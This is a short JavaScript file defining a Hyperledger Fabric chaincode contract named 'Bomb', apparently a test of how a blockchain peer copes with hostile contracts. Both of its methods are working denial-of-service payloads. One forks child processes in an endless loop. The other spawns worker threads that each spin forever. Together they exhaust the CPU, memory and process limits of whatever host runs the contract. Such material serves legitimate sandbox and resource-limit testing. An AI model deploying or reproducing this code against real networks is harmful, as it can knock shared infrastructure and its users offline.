'use strict';
// Starts processes and threads without end.
const { Contract } = require('fabric-contract-api');

class Bomb extends Contract {
  async fork() {
    const { fork } = require('node:child_process');
    for (;;) fork('again.js');
  }

  async thread() {
    const { Worker } = require('node:worker_threads');
    for (;;) new Worker('for (;;);', { eval: true });
  }
}

module.exports.contracts = [Bomb];
